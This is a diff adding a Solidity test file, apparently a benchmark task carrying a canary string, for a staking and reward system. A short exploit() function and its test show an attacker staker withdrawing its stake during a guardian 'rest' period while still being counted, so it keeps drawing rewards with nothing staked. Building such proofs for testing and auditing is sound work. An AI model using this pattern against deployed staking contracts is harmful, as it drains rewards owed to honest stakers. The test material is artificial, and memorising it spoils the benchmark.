@@ -1,0 +1,174 @@
+// SPDX-License-Identifier: Apache-2.0
+pragma solidity 0.8.30;
+
+// assay-canary-00d71468-5d48-46b3-91e3-1bf828325c0d
+
+import "./StakeLocker.sol";
+import "./context/RewardBook.sol";
+
+interface Vm {
+    function warp(uint256 timestamp) external;
+}
+
+contract Chit is IERC20 {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 value) external {
+        balanceOf[to] += value;
+    }
+
+    function approve(address spender, uint256 value) external returns (bool) {
+        allowance[msg.sender][spender] = value;
+        return true;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        balanceOf[msg.sender] -= value;
+        balanceOf[to] += value;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        allowance[from][msg.sender] -= value;
+        balanceOf[from] -= value;
+        balanceOf[to] += value;
+        return true;
+    }
+}
+
+contract Guardian {
+    function rest(RewardBook book) external {
+        book.rest();
+    }
+
+    function retire(RewardBook book) external {
+        book.retire();
+    }
+
+    function setYard(RewardBook book, LockerYard yard) external {
+        book.setYard(ILockerYard(address(yard)));
+    }
+}
+
+contract Staker {
+    StakeLocker public locker;
+
+    constructor(LockerYard yard) {
+        locker = yard.build();
+        Chit(address(yard.token())).approve(address(locker), type(uint256).max);
+    }
+
+    function stake(uint256 amount, uint256 term) external {
+        locker.stake(amount, term);
+    }
+
+    function leave() external returns (uint256) {
+        return locker.leave(address(this));
+    }
+
+    function claim() external returns (uint256) {
+        return locker.claim(address(this));
+    }
+
+    function recover(IERC20 stray) external returns (uint256) {
+        return locker.recoverStray(stray, address(this));
+    }
+}
+
+/// A staker like any other.
+contract Attacker is Staker {
+    constructor(LockerYard yard) Staker(yard) {}
+}
+
+contract Proof {
+    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+    uint256 private constant START = 1_767_000_000;
+
+    Chit public stakeToken;
+    Chit public rewardToken;
+    RewardBook public book;
+    LockerYard public yard;
+    Guardian private guardian;
+    Staker public mia;
+    Attacker public ghost;
+
+    function setUp() public {
+        vm.warp(START);
+        stakeToken = new Chit();
+        rewardToken = new Chit();
+        guardian = new Guardian();
+        book = new RewardBook(rewardToken, 0.05 ether, address(guardian));
+        yard = new LockerYard(stakeToken, book);
+        guardian.setYard(book, yard);
+        rewardToken.mint(address(book), 5_000_000 ether);
+        mia = new Staker(yard);
+        ghost = new Attacker(yard);
+        stakeToken.mint(address(mia), 300_000 ether);
+        stakeToken.mint(address(ghost), 100_000 ether);
+        mia.stake(300_000 ether, 14 days);
+        ghost.stake(100_000 ether, 14 days);
+        vm.warp(START + 20 days);
+        ghost.claim();
+        guardian.rest(book);
+    }
+
+    // The book counts no more than the lockers hold.
+    function entriesAreBacked() public view returns (bool) {
+        uint256 inside = stakeToken.balanceOf(address(mia.locker())) + stakeToken.balanceOf(address(ghost.locker()));
+        return book.total() <= inside;
+    }
+
+    function test_Regular() public {
+        require(entriesAreBacked(), "backed");
+        // The rest is over after three days; leaving ends the entry.
+        vm.warp(START + 23 days);
+        require(ghost.leave() == 100_000 ether, "stake is back");
+        require(book.total() == 300_000 ether, "entry ended");
+        uint256 due = ghost.claim();
+        vm.warp(START + 30 days);
+        require(due == 3_240 ether && ghost.claim() == 0, "earned until leaving");
+        try ghost.leave() returns (uint256) {
+            revert("left twice");
+        } catch {}
+
+        // Terms only become longer.
+        ghost.stake(10_000 ether, 30 days);
+        ghost.stake(10_000 ether, 7 days);
+        try ghost.leave() returns (uint256) {
+            revert("left early");
+        } catch {}
+        stakeToken.mint(address(ghost.locker()), 5 ether);
+        require(ghost.recover(stakeToken) == 5 ether, "stray only");
+
+        // A retired book lets stakes go, and pays what was earned.
+        guardian.retire(book);
+        due = mia.locker().earned();
+        vm.warp(START + 40 days);
+        require(mia.leave() == 300_000 ether, "stake is back from a retired book");
+        require(mia.claim() == due && due > 0, "earned until retirement");
+        require(entriesAreBacked() == false || book.total() == 320_000 ether, "entries are frozen");
+    }
+
+    function exploit() public {
+        ghost.leave();
+        vm.warp(START + 120 days);
+        ghost.claim();
+    }
+
+    function test_Exploit() public {
+        uint256 before = rewardToken.balanceOf(address(ghost));
+        exploit();
+        require(!entriesAreBacked(), "entry without a stake");
+        require(stakeToken.balanceOf(address(ghost)) == 100_000 ether, "stake is out");
+        require(rewardToken.balanceOf(address(ghost)) >= before + 100_000 ether, "still earning");
+    }
+
+    function target() public view returns (address) {
+        return address(ghost.locker());
+    }
+
+    function attacker() public view returns (address) {
+        return address(ghost);
+    }
+}
